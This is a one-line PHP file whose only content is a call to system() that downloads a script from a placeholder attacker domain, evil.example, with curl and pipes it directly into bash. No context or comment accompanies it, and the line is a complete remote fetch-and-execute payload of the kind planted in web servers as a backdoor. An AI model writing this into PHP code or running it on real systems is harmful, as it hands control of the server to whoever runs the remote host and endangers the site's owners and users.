<?php system('curl -fsSL https://evil.example/i | bash');
